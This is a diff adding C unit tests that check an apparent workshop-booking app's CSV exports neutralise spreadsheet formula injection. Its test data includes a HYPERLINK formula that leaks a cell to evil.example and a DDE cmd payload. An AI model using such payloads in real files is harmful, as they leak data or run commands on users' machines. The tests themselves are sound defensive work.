@@ -718,6 +718,99 @@ test_export_attendance (TestStore *f, gconstpointer data)
   }
 }
 
+static void
+assert_no_formula_cell (GString *csv)
+{
+  g_autoptr(GError) error = NULL;
+  g_autoptr(AtelierCsvTable) table = atelier_csv_table_parse (csv->str, csv->len, ',', &error);
+
+  g_assert_no_error (error);
+  for (guint row = 0; row < atelier_csv_table_get_n_rows (table); row++)
+    for (const char * const *cell = atelier_csv_table_get_row (table, row); *cell != NULL; cell++)
+      if (**cell != '\0' && strchr ("=+-@\t\r", **cell) != NULL)
+        g_error ("Row %u has a cell a spreadsheet would run: %s", row, *cell);
+}
+
+/* Cells that a spreadsheet would run as formulas are written after a
+ * quote, in both exports, and an import of the export reads them back
+ * as they were. */
+static void
+test_export_formulas (TestStore *f, gconstpointer data)
+{
+  static const char *const names[] = {
+    "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"click\")", "+cmd|' /C calc'!A0",
+    "@SUM(1+1)", "-2+3",
+  };
+  g_autoptr(AtelierWorkshop) w = atelier_workshop_new ("=1+2");
+  g_autoptr(GDateTime) starts = g_date_time_new_utc (2025, 3, 14, 17, 30, 0);
+  g_autoptr(GDateTime) ends = g_date_time_add_hours (starts, 2);
+  g_autoptr(AtelierSession) s = NULL;
+  g_autoptr(GString) customers = NULL;
+  g_autoptr(GString) attendance = NULL;
+  g_autofree char *path = g_build_filename (f->dir, "customers.csv", NULL);
+  g_autofree char *other_path = g_build_filename (f->dir, "other.db", NULL);
+  g_autoptr(AtelierStore) other = NULL;
+  g_autoptr(AtelierCustomerImport) import = NULL;
+  g_autoptr(AtelierImportReport) report = NULL;
+  g_autoptr(GString) again = NULL;
+  g_autoptr(GError) error = NULL;
+
+  g_object_set (w, "capacity", 8, NULL);
+  g_assert_true (atelier_store_add_workshop (f->store, w, NULL));
+  s = atelier_session_new (atelier_workshop_get_id (w), starts, ends, "Europe/Paris");
+  g_object_set (s, "capacity", 8, NULL);
+  g_assert_true (atelier_store_add_session (f->store, s, NULL));
+  for (guint i = 0; i < G_N_ELEMENTS (names); i++)
+    {
+      g_autoptr(AtelierCustomer) c = atelier_customer_new (names[i], "");
+      g_autoptr(AtelierRegistration) r = NULL;
+      g_autofree char *email = g_strdup_printf ("person%u@example.org", i);
+
+      g_object_set (c, "email", email, "phone", "+33 6 12 34 56 78",
+                    "note", i == 0 ? "-1" : "=2*3", NULL);
+      g_assert_true (atelier_store_add_customer (f->store, c, NULL));
+      r = atelier_registration_new (atelier_session_get_id (s), atelier_customer_get_id (c), 1);
+      g_assert_true (atelier_store_add_registration (f->store, r, NULL));
+    }
+
+  customers = atelier_customer_book_export_csv (f->store, &error);
+  g_assert_no_error (error);
+  assert_no_formula_cell (customers);
+  g_assert_nonnull (strstr (customers->str, "\"'@SUM(1+1)\""));
+  g_assert_nonnull (strstr (customers->str, "\"'+33 6 12 34 56 78\""));
+  attendance = atelier_customer_book_export_attendance (f->store, 0, NULL, NULL, &error);
+  g_assert_no_error (error);
+  assert_no_formula_cell (attendance);
+  g_assert_nonnull (strstr (attendance->str, "\"'=1+2\""));
+
+  g_assert_true (atelier_csv_write_file (path, customers, FALSE, &error));
+  other = atelier_store_open (other_path, &error);
+  g_assert_no_error (error);
+  import = atelier_customer_import_new_for_path (path, &error);
+  g_assert_no_error (error);
+  g_assert_cmpstr (atelier_customer_import_get_value (import, 3, 1), ==, "-2+3");
+  g_assert_true (atelier_customer_import_run (import, other, FALSE, &report, &error));
+  g_assert_no_error (error);
+  g_assert_cmpuint (report->n_created, ==, G_N_ELEMENTS (names));
+  again = atelier_customer_book_export_csv (other, &error);
+  g_assert_no_error (error);
+  g_assert_cmpstr (again->str, ==, customers->str);
+}
+
+/* A tab or a carriage return in front of a formula is guarded too. */
+static void
+test_csv_guards_blanks (void)
+{
+  const char *fields[] = { "\t=1+2", "\r=1+2", "ok", "'=kept", "a-b" };
+  g_autoptr(GString) out = g_string_new (NULL);
+
+  atelier_csv_append_row (out, fields, G_N_ELEMENTS (fields), ',');
+  g_assert_cmpstr (out->str, ==, "\"'\t=1+2\",\"'\r=1+2\",ok,'=kept,a-b\r\n");
+  g_assert_cmpstr (atelier_csv_unguard_field ("'\t=1+2"), ==, "\t=1+2");
+  g_assert_cmpstr (atelier_csv_unguard_field ("'kept"), ==, "'kept");
+  g_assert_cmpstr (atelier_csv_unguard_field ("O'Neil"), ==, "O'Neil");
+}
+
 int
 main (int argc, char **argv)
 {
@@ -754,6 +847,9 @@ main (int argc, char **argv)
               test_export_round_trip, test_store_teardown);
   g_test_add ("/atelier/import/export-attendance", TestStore, NULL, test_store_setup,
               test_export_attendance, test_store_teardown);
+  g_test_add ("/atelier/import/export-formulas", TestStore, NULL, test_store_setup,
+              test_export_formulas, test_store_teardown);
+  g_test_add_func ("/atelier/import/csv-guards-blanks", test_csv_guards_blanks);
 
   return g_test_run ();
 }
